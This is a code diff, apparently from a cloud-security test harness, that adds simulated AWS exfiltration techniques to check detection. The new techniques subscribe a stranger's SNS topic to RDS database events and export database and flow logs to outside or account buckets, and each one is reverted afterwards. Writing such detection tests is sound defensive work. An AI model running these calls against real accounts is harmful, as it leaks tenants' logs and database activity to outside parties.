@@ -5,14 +5,21 @@ import {
   DeleteRecoveryPointCommand,
   StartBackupJobCommand,
 } from '@aws-sdk/client-backup';
-import { DeleteAccountPolicyCommand, PutAccountPolicyCommand } from '@aws-sdk/client-cloudwatch-logs';
+import {
+  CancelExportTaskCommand as CancelExportTaskOfLogs,
+  CreateExportTaskCommand,
+  DeleteAccountPolicyCommand,
+  PutAccountPolicyCommand,
+} from '@aws-sdk/client-cloudwatch-logs';
 import {
   CancelExportTaskCommand,
+  CreateEventSubscriptionCommand,
   CreateIntegrationCommand,
+  DeleteEventSubscriptionCommand,
   DeleteIntegrationCommand,
   StartExportTaskCommand,
 } from '@aws-sdk/client-rds';
-import type { Subject } from '../../../functions/isolation/subject';
+import { type Subject, tenantIdOf } from '../../../functions/isolation/subject';
 import { type AttackTechnique, STRANGER } from '../technique';
 
 type ArnOf = (subject: Subject) => string;
@@ -90,6 +97,36 @@ const keptByBackup = (name: string, BackupVaultName: string, idOf: (subject: Sub
   },
 });
 
+const told = (name: string, SourceIds: (subject: Subject) => string[]): AttackTechnique => ({
+  name,
+  check: 'database.event-subscriptions',
+  detonate: async ({ subject, root: { rds } }) => {
+    const subscription = { SubscriptionName: `support-${SourceIds(subject).length}` };
+    const SnsTopicArn = `arn:aws:sns:${subject.region}:${STRANGER}:theirs`;
+    const about = { SourceType: 'db-instance', SourceIds: SourceIds(subject) };
+    await rds.send(new CreateEventSubscriptionCommand({ ...subscription, SnsTopicArn, ...about }));
+    return {
+      expectedEvidence: `subscription ${subscription.SubscriptionName} tells ${SnsTopicArn} of events`,
+      revert: () => rds.send(new DeleteEventSubscriptionCommand(subscription)),
+    };
+  },
+});
+
+const written = (name: string, groupOf: (subject: Subject) => string, destination: string): AttackTechnique => ({
+  name,
+  check: 'logs.exports',
+  detonate: async ({ subject, root: { logs } }) => {
+    const logGroupName = groupOf(subject);
+    const { taskId } = await logs.send(
+      new CreateExportTaskCommand({ logGroupName, from: 0, to: Date.now(), destination }),
+    );
+    return {
+      expectedEvidence: `export ${taskId} writes log group ${logGroupName} to bucket ${destination}`,
+      revert: () => logs.send(new CancelExportTaskOfLogs({ taskId })),
+    };
+  },
+});
+
 const supportsKey: ArnOf = (subject) => at(subject, 'kms', 'key/support');
 
 export const COPIES_ELSEWHERE_TECHNIQUES: readonly AttackTechnique[] = [
@@ -113,6 +150,18 @@ export const COPIES_ELSEWHERE_TECHNIQUES: readonly AttackTechnique[] = [
   integrated(
     'replicate the database into a stranger’s data warehouse',
     ({ region }) => `arn:aws:redshift:${region}:${STRANGER}:namespace:theirs`,
+  ),
+  told('tell a stranger of the database’s events', ({ stacks }) => [stacks.database.outputs.InstanceId]),
+  told('tell a stranger of every database’s events', () => []),
+  written(
+    'export the database’s log into a stranger’s bucket',
+    ({ stacks }) => `/aws/rds/instance/${stacks.database.outputs.InstanceId}/postgresql`,
+    'theirs',
+  ),
+  written(
+    'export the flow logs into a bucket of the account',
+    (subject) => `/tenants/${tenantIdOf(subject)}/flow-logs`,
+    'support-exports',
   ),
   subscribed('send all logs of the account to a stranger', ({ region }) => `arn:aws:logs:${region}:${STRANGER}:all`),
   subscribed('send all logs of the account into a stream', (subject) => at(subject, 'kinesis', 'stream/support')),
